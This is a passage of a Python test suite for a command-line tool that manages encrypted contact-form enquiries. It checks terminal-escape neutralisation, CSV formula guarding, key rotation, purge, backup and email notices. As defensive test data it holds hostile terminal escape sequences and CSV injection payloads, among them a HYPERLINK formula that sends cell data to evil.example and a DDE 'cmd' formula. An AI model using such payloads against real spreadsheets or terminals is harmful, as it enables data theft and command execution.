    assert_equal(len(enquiry_rows(live_db(ctx))), before, "nothing stored")

    # Text-direction overrides are not control characters, so the form takes
    # them; the tool must still not let them reorder what staff read.
    name = "Mallory \u202eevil\u202c"
    message = "Reads \u2067backwards\u2069 and \u200fmarked\u200e."
    ref = submit(ctx, "contact", name=name, message=message)
    for args in (["list"], ["show", ref]):
        code, out = run_in_pty(ctx, *args)
        assert_equal(code, 0, "enquiries %s on a terminal" % " ".join(args))
        text = assert_harmless(out, "bidi controls: enquiries %s" % " ".join(args))
        assert_in("Mallory \ufffdevil\ufffd", text, "the name, neutralised")
        assert_in("Reads \ufffdbackwards\ufffd and \ufffdmarked\ufffd.", text, "the message")
    record = next(r for r in json.loads(ok(ctx, "export", "--format", "json").out)
                  if r["ref"] == ref)
    assert_equal((record["fields"]["name"], record["fields"]["message"]), (name, message),
                 "json keeps what was typed")


HOSTILE_NAME = "Eve\x1b[2J\x1b]0;pwned\x07\u202eevil"
HOSTILE_MESSAGE = ("line one\n\x1b[31mred\x1b[0m and \u009b31m C1 red\r\n"
                   "bell\x07 del\x7f tab\there \u2066isolate\u2069 \u200fmark "
                   "cr\roverwrite esc\x1bc reset")
HOSTILE_RAW = b"bad utf-8 \xff\xfe \xc0\xaf \xed\xa0\x80 lone \x9b31m end"


def test_hostile_stored_text_cannot_drive_a_terminal(ctx):
    ref = seal_row(ctx, "contact", [
        ("name", HOSTILE_NAME), ("email", "eve@example.org"), ("phone", ""),
        ("message", HOSTILE_MESSAGE), ("consent", "yes"),
        ("extra_note", HOSTILE_RAW), ("extra_block", "one\n\x1b]52;c;cHduZWQ=\x07two"),
    ])
    ctx.staff_hostile_ref = ref
    for args in (["list"], ["list", "--json"], ["show", ref], ["export", "--format", "json"],
                 ["export", "--format", "csv"], ["verify"]):
        code, out = run_in_pty(ctx, *args)
        assert_equal(code, 0, "enquiries %s on a terminal: %r" % (" ".join(args), out[-400:]))
        text = assert_harmless(out, "enquiries %s on a terminal" % " ".join(args))
        if args[0] != "verify":
            assert_in("pwned", text, "the visible text is kept (%s)" % " ".join(args))
        if args[0] in ("list", "show") and "--json" not in args:
            assert_in("Eve\ufffd[2J\ufffd]0;pwned\ufffd\ufffdevil", text, "name, neutralised")
    shown = run_in_pty(ctx, "show", ref)[1].decode()
    assert_in("extra_note         bad utf-8 \ufffd\ufffd", shown, "an unknown field, by name")
    assert_in("extra_block:\n    one\n    \ufffd]52;c;cHduZWQ=\ufffdtwo", shown,
              "an unknown multi-line field")

    # Through a pipe, list and show are just as careful.
    for args in (["list"], ["list", "--json"], ["show", ref], ["verify"]):
        assert_harmless(ok(ctx, *args).stdout, "enquiries %s into a pipe" % " ".join(args))
    # JSON into a pipe escapes every control and gives the text back.
    piped = ok(ctx, "export", "--format", "json").stdout
    assert_harmless(piped, "export json into a pipe")
    record = next(r for r in json.loads(piped) if r["ref"] == ref)
    assert_equal(record["fields"]["name"], HOSTILE_NAME, "json name")
    assert_equal(record["fields"]["message"], HOSTILE_MESSAGE, "json message")
    # Invalid UTF-8 cannot be a JSON string: each bad byte becomes U+FFFD.
    assert_equal(record["fields"]["extra_note"],
                 "bad utf-8 \ufffd\ufffd \ufffd\ufffd \ufffd\ufffd\ufffd lone \ufffd31m end",
                 "json invalid UTF-8")
    # CSV into a pipe is data for a spreadsheet: as the manual says, the
    # values are written as they were sent (terminal protection is only for a
    # terminal), still quoted and formula-proofed.
    piped = ok(ctx, "export", "--format", "csv").stdout
    row = next(r for r in csv.reader(io.StringIO(piped.decode("utf-8", "surrogateescape"),
                                                 newline="")) if r[0] == ref)
    assert_equal(row[5], HOSTILE_NAME, "csv name into a pipe, as sent")
    assert_equal(row[13], HOSTILE_MESSAGE, "csv message into a pipe, as sent")
    assert_in(HOSTILE_RAW, piped, "csv keeps even invalid bytes, as sent")


def test_hostile_metadata_cannot_drive_a_terminal(ctx):
    db = copy_db(ctx, "hostile-meta.db")
    ref = ctx.staff_hostile_ref
    db_execute(db, "UPDATE enquiries SET ref = ?, received_day = ? WHERE ref = ?",
               ("\x1b]0;owned\x07\u202e", "\x1b[2J2026", ref))
    db_execute(db, "UPDATE enquiries SET key_id = ? WHERE id = (SELECT min(id) FROM enquiries)",
               ("\x1b[5m\u009b7m",))
    for args in (["list"], ["list", "--json"], ["export", "--format", "json"],
                 ["export", "--format", "csv"], ["verify"], ["stats"]):
        code, out = run_in_pty(ctx, "--db", db, *args)
        assert_equal(code, 1 if args[0] != "stats" else 0, "enquiries %s: %r" % (
            " ".join(args), out[-300:]))
        assert_harmless(out, "enquiries %s of hostile metadata on a terminal" % " ".join(args))
    for args in (["list"], ["verify"], ["stats"], ["show", "\x1b]0;owned\x07\u202e"]):
        result = run_tool(ctx, "--db", db, *args)
        assert_harmless(result.stdout + result.stderr, "enquiries %s into a pipe" % args[0])


def test_csv_formulas_stay_text(ctx):
    formula_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    ref = submit(ctx, "start", name=formula_name, reason="+1+1 is what I feel",
                 availability="@SUM(A1:A9)", phone="+44 7700 900123")
    other = submit(ctx, "contact", name="-Minus Person", message="=1+1\nsecond line",
                   phone="")
    sealed = seal_row(ctx, "contact", [("name", "\t=cmd|' /C calc'!A0"), ("email", "t@e.org"),
                                       ("message", "\r=2+2"), ("consent", "yes")])
    # The hostile row above holds invalid UTF-8, which CSV keeps as sent.
    text = ok(ctx, "export", "--format", "csv").stdout.decode("utf-8", "surrogateescape")
    rows = {r[0]: dict(zip(CSV_COLUMNS, r)) for r in csv.reader(io.StringIO(text, newline=""))}
    assert_equal(rows[ref]["name"], "'" + formula_name, "csv name")
    assert_equal(rows[ref]["reason"], "'+1+1 is what I feel", "csv reason")
    assert_equal(rows[ref]["availability"], "'@SUM(A1:A9)", "csv availability")
    assert_equal(rows[ref]["phone"], "'+44 7700 900123", "csv phone")
    assert_equal(rows[other]["name"], "'-Minus Person", "csv name")
    assert_equal(rows[other]["message"], "'=1+1\nsecond line", "csv message")
    assert_equal(rows[sealed]["name"], "'\t=cmd|' /C calc'!A0", "csv tab-led cell")
    assert_equal(rows[sealed]["message"], "'\r=2+2", "csv CR-led cell")
    for row in rows.values():
        for column, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    # The raw text: the apostrophe is inside the quotes, not before them.
    assert_in("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click me\"\")\"", text)
    # JSON is for programs: the values exactly as typed.
    records = {r["ref"]: r for r in json.loads(ok(ctx, "export", "--format", "json").out)}
    assert_equal(records[ref]["fields"]["name"], formula_name, "json keeps the value")
    assert_equal(records[other]["fields"]["message"], "=1+1\nsecond line", "json message")
    # On a terminal the formula guard still applies after neutralising.
    code, out = run_in_pty(ctx, "export", "--format", "csv")
    assert_equal(code, 0, "csv on a terminal")
    terminal_text = assert_harmless(out, "csv on a terminal")
    assert_in("\"'=HYPERLINK(", terminal_text)


# --- 4. rotate, purge -------------------------------------------------------------------
def test_rotate_keeps_old_enquiries_readable_and_seals_new_ones_to_the_new_key(ctx):
    old_id = public_key_id(ctx)
    before = submit(ctx, "contact", name="Before Rotate", message="Sealed to the old key.")
    rotated = ok(ctx, "rotate")
    new_id = public_key_id(ctx)
    assert new_id != old_id, "rotate wrote a new public key"
    assert_in("Made the new key %s" % new_id, rotated.out)
    assert_in("holds 2 keys", rotated.out)
    with open(ctx.stack.path("staff.keyring")) as f:
        keyring = f.read().splitlines()
    assert_equal([line.split()[0] for line in keyring[1:]], [old_id, new_id], "keyring ids")
    assert_equal(stat.S_IMODE(os.stat(ctx.stack.path("staff.keyring")).st_mode), 0o600,
                 "keyring mode")

    # As the manual says, the running program keeps the key it started with.
    between = submit(ctx, "contact", name="Between", message="Before the restart.")
    restart_contact(ctx)
    after = submit(ctx, "contact", name="After Rotate", message="Sealed to the new key.")
    key_ids = dict(db_execute(live_db(ctx), "SELECT ref, key_id FROM enquiries WHERE ref IN "
                              "(?, ?, ?)", (before, between, after)))
    assert_equal(key_ids, {before: old_id, between: old_id, after: new_id}, "key ids of the rows")

    listed = ok(ctx, "list").out
    assert re.search(r"^%s .*Before Rotate\s+Sealed to the old key\.$" % before, listed, re.M)
    assert re.search(r"^%s .*After Rotate\s+Sealed to the new key\.$" % after, listed, re.M)
    assert_in("Sealed to the old key.", ok(ctx, "show", before).out)
    assert_in("Before the restart.", ok(ctx, "show", between).out)
    assert_in("Sealed to the new key.", ok(ctx, "show", after).out)
    records = {r["ref"]: r for r in json.loads(ok(ctx, "export", "--format", "json").out)}
    assert_equal(records[before]["fields"]["name"], "Before Rotate", "old key export")
    assert_equal(records[after]["fields"]["name"], "After Rotate", "new key export")
    assert_in("every one opens", ok(ctx, "verify").out)

    # A keyring copy from before the rotation cannot read the new enquiry.
    old_keyring = ctx.stack.path("old.keyring")
    with open(old_keyring, "w") as f:
        f.write("\n".join(keyring[:2]) + "\n")
    config = config_copy(ctx, "site-oldkeyring.conf", secret_key=old_keyring)
    shown = run_tool(ctx, "show", after, config=config)
    assert_clean_failure(shown, after)
    assert_in("sealed to a key this keyring does not hold (key id %s)" % new_id, shown.out)


def test_purge_removes_exactly_the_old_enquiries_and_their_bytes(ctx):
    db = live_db(ctx)
    old = [submit(ctx, "contact", name="Old %d" % i, message="Old enquiry %d." % i)
           for i in range(2)]
    middle = submit(ctx, "contact", name="Middling", message="A hundred days old.")
    recent = submit(ctx, "contact", name="Recent", message="From today.")
    sealed = {ref: blob for ref, blob in db_execute(
        db, "SELECT ref, sealed FROM enquiries WHERE ref IN (?, ?)", tuple(old))}
    for ref in old:
        db_execute(db, "UPDATE enquiries SET received_day = ? WHERE ref = ?",
                   (days_ago(200), ref))
    db_execute(db, "UPDATE enquiries SET received_day = ? WHERE ref = ?", (days_ago(100), middle))
    before = {r["ref"] for r in enquiry_rows(db)}

    def stored_bytes():
        raw = b""
        for path in (db, db + "-wal"):
            if os.path.exists(path):
                with open(path, "rb") as f:
                    raw += f.read()
        return raw

    def windows(blob):
        return [blob[start:start + 32] for start in range(0, len(blob) - 32, 97)]

    raw = stored_bytes()
    for ref, blob in sealed.items():  # so that not finding them later means something
        assert all(w in raw for w in windows(blob)), "the sealed bytes of %s are findable" % ref

    try:
        dry = ok(ctx, "purge", "--older-than", "150", "--dry-run", passphrase=False)
        assert_equal(dry.out, "Would delete 2 enquiries older than 150 days (received before "
                              "%s).\n" % days_ago(150), "dry run")
        assert_equal({r["ref"] for r in enquiry_rows(db)}, before, "a dry run deletes nothing")
        raw = stored_bytes()
        assert all(w in raw for b in sealed.values() for w in windows(b)), "dry run kept bytes"
        default = ok(ctx, "purge", "--dry-run", passphrase=False)
        assert_equal(default.out, "Would delete 3 enquiries older than 90 days (received "
                                  "before %s).\n" % days_ago(90), "dry run, retention_days")
        stats = ok(ctx, "stats", passphrase=False).out
        assert_in("Older than the retention period (90 days): 3;", stats)

        done = ok(ctx, "purge", "--older-than", "150", passphrase=False)
        assert_equal(done.out, "Deleted 2 enquiries older than 150 days (received before "
                               "%s).\n" % days_ago(150), "purge")
        assert_equal({r["ref"] for r in enquiry_rows(db)}, before - set(old), "what is left")
        again = ok(ctx, "purge", "--older-than", "150", passphrase=False)
        assert_in("Deleted 0 enquiries", again.out)

        raw = stored_bytes()
        for ref, blob in sealed.items():
            for i, window in enumerate(windows(blob)):
                assert window not in raw, "bytes of the purged %s (window %d) are still in " \
                    "the database or its WAL" % (ref, i)
            assert_not_in(ref.encode(), raw, "the purged reference in the database")

        # Put the middling row's day back, so that it matches its envelope again.
        db_execute(db, "UPDATE enquiries SET received_day = ? WHERE ref = ?", (today(), middle))
        listed = ok(ctx, "list").out
        for ref in old:
            assert_not_in(ref, listed, "list after purge")
        assert_in("Middling", listed)
        assert_in("Recent", listed)
        # The site kept its database open through the VACUUM and still works.
        later = submit(ctx, "contact", name="After Purge", message="Still stored.")
        assert_in("Still stored.", ok(ctx, "show", later).out)

        assert_clean_failure(run_tool(ctx, "purge", "--older-than", "0"), "--older-than",
                             code=2)
        assert_clean_failure(run_tool(ctx, "purge", "--older-than", "ten"), "--older-than",
                             code=2)
    finally:
        db_execute(db, "UPDATE enquiries SET received_day = ? WHERE ref = ?", (today(), middle))
    assert_in(recent, ok(ctx, "list").out)


# --- backup --------------------------------------------------------------------------
def test_backup_while_the_site_is_being_posted_to(ctx):
    """Posts go on, from two clients back to back, from before the backup starts
    until after it ended; the test shows a post was in flight while the backup
    ran (its interval and the backup's overlap: a backup short enough to fall
    between two posts of both clients is taken again, up to five times)."""
    posted, failures, intervals = [], [], []
    backup_done = threading.Event()
    lock = threading.Lock()

    def post_many(client):
        i = 0
        after = 0  # posts started once the backup was over
        while after < 2 and i < 400:
            if backup_done.is_set():
                after += 1
            sent = time.monotonic()
            resp = ctx.post("/contact", ctx.form("contact", name="Busy %d %d" % (client, i),
                                                 message="Posted during the backup."))
            with lock:
                intervals.append((sent, time.monotonic()))
                (posted if ref_of(resp) else failures).append(ref_of(resp) or resp)
            i += 1

    before = {r["ref"] for r in enquiry_rows(live_db(ctx))}
    posters = [threading.Thread(target=post_many, args=(n,)) for n in range(2)]
    for t in posters:
        t.start()
    overlapped = None
    try:
        assert wait_until(lambda: len(posted) >= 3 or failures, 30), "posts are flowing"
        for attempt in range(1, 6):
            backup = ctx.stack.path("backup-%d.db" % attempt)
            started = time.monotonic()
            result = ok(ctx, "backup", backup, passphrase=False)
            ended = time.monotonic()
            assert_in("Copied the enquiries to %s." % backup, result.out)
            assert_in("keyring", result.out)
            with lock:
                if any(sent < ended and answered > started for sent, answered in intervals):
                    overlapped = attempt
            if overlapped or failures:
                break
    finally:
        backup_done.set()
        for t in posters:
            t.join(60)
    assert overlapped, "no post was in flight while any of five backups ran"
    assert_equal(failures, [], "posts during the backup")
    assert len(posted) >= 7, "posts before, during and after the backup: %d" % len(posted)
    assert_equal(stat.S_IMODE(os.stat(backup).st_mode), 0o600, "backup mode")
    for suffix in ("-wal", "-shm"):
        assert not os.path.exists(backup + suffix) or os.path.getsize(backup + suffix) == 0, \
            "the backup is one file"

    copied = {r["ref"] for r in enquiry_rows(backup)}
    live = {r["ref"] for r in enquiry_rows(live_db(ctx))}
    assert before <= copied <= live, "the backup holds what was there, nothing else"
    assert live - copied, "posts answered after the backup are not in it"
    assert_in("every one opens", ok(ctx, "--db", backup, "verify").out)
    listed = json.loads(ok(ctx, "--db", backup, "list", "--json").out)
    assert_equal({r["ref"] for r in listed}, copied, "list --db backup")
    busy = [r for r in listed if r["name"].startswith("Busy ")]
    assert all(r["preview"] == "Posted during the backup." for r in busy), busy[:3]

    refused = run_tool(ctx, "backup", backup, passphrase=False)
    assert_clean_failure(refused, "already exists")
    assert_equal({r["ref"] for r in enquiry_rows(backup)}, copied, "the old backup is intact")


# --- notify ---------------------------------------------------------------------------
def fake_sendmail(ctx, name, exit_status=0):
    log = ctx.stack.path(name + ".log")
    script = ctx.stack.path(name)
    with open(script, "w") as f:
        f.write("#!/bin/sh\n"
                "{ echo \"ARGS: $*\"; cat; echo '--- end of message ---'; } >> '%s'\n"
                "exit %d\n" % (log, exit_status))
    os.chmod(script, 0o755)
    return script, log


def read_mail(log):
    if not os.path.exists(log):
        return []
    with open(log, "rb") as f:
        text = f.read().decode("utf-8")
    return [m for m in text.split("--- end of message ---\n") if m]


def test_notify_sends_one_contentless_notice_per_batch(ctx):
    sendmail, log = fake_sendmail(ctx, "sendmail-ok")
    config = config_copy(ctx, "site-notify.conf", sendmail=sendmail)
    rows = enquiry_rows(live_db(ctx))
    fresh = sum(1 for r in rows if r["status"] == "new")
    assert fresh > 1 and fresh < len(rows), "some new and some handled rows by now"

    first = ok(ctx, "notify", config=config, passphrase=False)
    assert_equal(first.out, "Sent a notice of %d new enquiries to staff@clinic.example.\n"
                 % fresh, "notify")
    mails = read_mail(log)
    assert_equal(len(mails), 1, "one mail")
    mail = mails[0]
    assert mail.startswith("ARGS: -t -oi\n"), mail[:100]
    headers, _, body = mail.partition("\n\n")
    assert_in("\nTo: staff@clinic.example\n", headers + "\n")
    assert_in("\nSubject: %d new enquiries\n" % fresh, headers + "\n")
    assert_in("enquiries list --status new", body)
    assert all(ord(c) < 128 for c in mail), "the notice is plain ASCII"
    # No part of any enquiry: references, names, addresses, words typed.
    exported = json.loads(ok(ctx, "export", "--format", "json").out)
    for record in exported:
        assert_not_in(record["ref"], mail, "a reference in the notice")
        for name, value in (record["fields"] or {}).items():
            if len(value) >= 4 and value not in ("yes", "email", "phone"):
                assert_not_in(value, mail, "the %s of %s in the notice" % (name, record["ref"]))
    assert_not_in("Zo", mail, "a name in the notice")

    second = ok(ctx, "notify", config=config, passphrase=False)
    assert_equal(second.out, "No new enquiries since the last notice, so no email was sent.\n",
                 "second notify")
    assert_equal(len(read_mail(log)), 1, "nothing sent the second time")

    # A failed sendmail records nothing, so the next run tries again.
    ref = submit(ctx, "contact", name="One More", message="Notify me once.")
    broken, broken_log = fake_sendmail(ctx, "sendmail-broken", exit_status=75)
    broken_config = config_copy(ctx, "site-notify-broken.conf", sendmail=broken)
    failed = run_tool(ctx, "notify", config=broken_config, passphrase=False)
    assert_clean_failure(failed, "failed (exit status 75)", "nothing was recorded")
    assert_equal(len(read_mail(broken_log)), 1, "the broken sendmail was asked")
    missing = config_copy(ctx, "site-notify-missing.conf", sendmail=ctx.stack.path("nosuch"))
    assert_clean_failure(run_tool(ctx, "notify", config=missing, passphrase=False),
                         "Could not run")

    third = ok(ctx, "notify", config=config, passphrase=False)
    assert_equal(third.out, "Sent a notice of 1 new enquiry to staff@clinic.example.\n",
                 "notify after one more")
    mails = read_mail(log)
    assert_equal(len(mails), 2, "a second mail")
    assert_in("\nSubject: 1 new enquiry\n", mails[1])
    assert_not_in(ref, mails[1], "the reference in the notice")
    assert_not_in("One More", mails[1], "the name in the notice")
    assert_in("No new enquiries", ok(ctx, "notify", config=config, passphrase=False).out)

    # Handled enquiries are not news.
    handled = submit(ctx, "contact", name="Already Done", message="Handled at once.")
    ok(ctx, "mark", handled, "handled")
    assert_in("No new enquiries", ok(ctx, "notify", config=config, passphrase=False).out)
    assert_equal(len(read_mail(log)), 2, "no mail for a handled enquiry")

    nowhere = config_copy(ctx, "site-notify-bad-to.conf", sendmail=sendmail,
                          notify_to="staff@clinic.example, boss@clinic.example")
    assert_clean_failure(run_tool(ctx, "notify", config=nowhere, passphrase=False),
                         "notify_to")


def test_notify_after_a_purge_that_emptied_the_database(ctx):
    """SQLite gives the next row the id after the largest present, so once a
    purge empties the table the ids a notice covered come round again."""
    sendmail, log = fake_sendmail(ctx, "sendmail-after-purge")
    config = config_copy(ctx, "site-notify-purge.conf", sendmail=sendmail)
    ok(ctx, "notify", config=config, passphrase=False)
    sent = len(read_mail(log))
    ((mark,),) = db_execute(live_db(ctx), "SELECT value FROM meta WHERE key = 'notified_up_to'")
    db_execute(live_db(ctx), "UPDATE enquiries SET received_day = ?", (days_ago(400),))
    assert_in("Deleted", ok(ctx, "purge", "--older-than", "365", passphrase=False).out)
    assert_equal(enquiry_rows(live_db(ctx)), [], "the purge emptied the table")
    # Exactly as many new enquiries as the last notice covered ids.
    count = int(mark.split()[0])
    assert 2 < count < 200, mark
    for i in range(count):
        submit(ctx, "contact", name="Wave %d" % i, message="After the purge.")
    result = ok(ctx, "notify", config=config, passphrase=False)
    assert_equal(result.out, "Sent a notice of %d new enquiries to staff@clinic.example.\n"
                 % count, "notify after the purge")
    assert_equal(len(read_mail(log)), sent + 1, "one more mail")
    assert_in("Subject: %d new enquiries" % count, read_mail(log)[-1])
    submit(ctx, "contact", name="One after", message="And one more.")
    assert_in("Sent a notice of 1 new enquiry", ok(ctx, "notify", config=config,
                                                   passphrase=False).out)

    # A record in the older form (the id alone) is still understood.
    ((newest,),) = db_execute(live_db(ctx), "SELECT max(id) FROM enquiries")
    db_execute(live_db(ctx), "UPDATE meta SET value = ? WHERE key = 'notified_up_to'",
               (str(newest - 2),))
    assert_in("Sent a notice of 2 new enquiries", ok(ctx, "notify", config=config,
                                                     passphrase=False).out)
    # A damaged record is said, and every new enquiry is announced again.
    db_execute(live_db(ctx), "UPDATE meta SET value = 'twelve' WHERE key = 'notified_up_to'")
    damaged = run_tool(ctx, "notify", config=config, passphrase=False)
    assert_equal(damaged.returncode, 0, "notify with a damaged record")
    assert_in("The record of the last notice is damaged", damaged.err)
    assert_in("Sent a notice of %d new enquiries" % (count + 1), damaged.out)


# --- the command line ----------------------------------------------------------------
def test_command_line_mistakes_exit_2_with_a_sentence(ctx):
    for args in (["frobnicate"], ["list", "--bogus"], ["show"], ["list", "extra"],
                 ["stats", "--json"], ["list", "--status"], ["--dry-run", "list"]):
        result = run_tool(ctx, *args, passphrase=False)
        assert_clean_failure(result, "enquiries --help", code=2)
        assert_equal(result.stdout, b"", "no output for a usage error")
    helped = ok(ctx, "--help", passphrase=False)
    assert_in("Usage: enquiries", helped.out)
